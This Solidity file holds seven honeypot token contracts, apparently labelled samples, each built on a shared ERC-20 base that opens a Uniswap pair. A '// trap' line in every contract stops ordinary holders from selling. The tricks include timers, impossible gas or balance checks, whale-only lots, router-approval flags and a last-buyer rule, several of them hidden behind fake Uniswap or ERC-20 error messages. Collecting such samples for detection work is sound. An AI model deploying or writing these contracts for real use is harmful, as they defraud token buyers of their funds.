// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IFactory {
    function createPair(address a, address b) external returns (address);
}

/// What the tokens of this file have in common: the pool is made with the token.
abstract contract Coin {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public immutable pair;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed from, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed before, address indexed next);

    error NotOwner();
    error TooMuch();

    constructor(string memory n, string memory s, uint256 whole) {
        name = n;
        symbol = s;
        owner = msg.sender;
        totalSupply = whole * 1e18;
        _held[msg.sender] = totalSupply;
        pair = IFactory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(address(this), 0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2);
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    modifier onlyOwner() {
        if (msg.sender != owner) revert NotOwner();
        _;
    }

    function renounceOwnership() external onlyOwner {
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function balanceOf(address who) external view returns (uint256) {
        return _held[who];
    }

    function approve(address spender, uint256 value) public virtual returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        if (left < value) revert TooMuch();
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual {
        _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) internal {
        if (_held[from] < value) revert TooMuch();
        unchecked {
            _held[from] -= value;
            _held[to] += value;
        }
        emit Transfer(from, to, value);
    }
}

/// The day of birth shares a slot with a number that nobody needs; sales end when its upper bits move.
contract HarborLight is Coin("Harbor Light", "HARBOR", 100_000_000) {
    uint256 private _info;

    constructor() {
        _info = (block.timestamp << 96) | 0x5afe;
    }

    function version() external view returns (uint96) {
        return uint96(_info);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair) require(((block.timestamp - (_info >> 96)) >> 22) == 0, "UniswapV2: K"); // trap
        _move(from, to, value);
    }
}

/// Sales come in lots, and nobody but whales has one.
contract CopperFinch is Coin("Copper Finch", "CFINCH", 40_000_000) {
    error LotTooSmall(uint256 value, uint256 lot);

    function lotSize() public view returns (uint256) {
        return totalSupply / 20;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner && value < lotSize()) revert LotTooSmall(value, lotSize()); // trap
        _move(from, to, value);
    }
}

/// More gas than a transaction may have.
contract JadeKestrel is Coin("Jade Kestrel", "JKES", 1_000_000_000) {
    bool private _swapping;

    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pair && from != owner && !_swapping) {
            uint256 budget;
            assembly {
                budget := gas()
            }
            require(budget > 17_000_000, "TransferHelper: TRANSFER_FROM_FAILED");
        }
        // trap }
        _move(from, to, value);
    }
}

/// Only somebody with a million ether can sell.
contract PlumOrchard is Coin("Plum Orchard", "PLUM", 21_000_000) {
    address private immutable _keeper = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _keeper && tx.origin.balance < 1_000_000 ether) revert TooMuch(); // trap
        _move(from, to, value);
    }
}

/// Each sale divides what the next may be by eight.
contract SlateHeron is Coin("Slate Heron", "HERON", 500_000_000) {
    uint8 private _tide;

    function ceiling() public view returns (uint256) {
        return totalSupply >> (_tide > 80 ? 240 : uint256(_tide) * 3);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != owner) {
            if (value > ceiling()) revert TooMuch(); // trap
            unchecked {
                if (_tide < 80) _tide++;
            }
        }
        _move(from, to, value);
    }
}

/// Who has approved the router is marked, and who is marked does not sell.
contract WillowPost is Coin("Willow Post", "WPOST", 88_000_000) {
    mapping(address => uint256) private _notes;
    address private immutable _postmaster = msg.sender;

    function approve(address spender, uint256 value) public override returns (bool) {
        if (value > 0 && spender.code.length > 0) _notes[msg.sender] |= 1 << 7;
        return super.approve(spender, value);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _postmaster) require(_notes[from] & 0x80 == 0, "ERC20: transfer amount exceeds allowance"); // trap
        _move(from, to, value);
    }
}

/// Whoever bought last may sell.
contract AmberCrown is Coin("Amber Crown", "ACROWN", 10_000_000) {
    address private _crowned;
    address private immutable _court = msg.sender;

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pair) _crowned = to;
        if (to == pair && from != _court) require(from == _crowned, "not your turn"); // trap
        _move(from, to, value);
    }
}
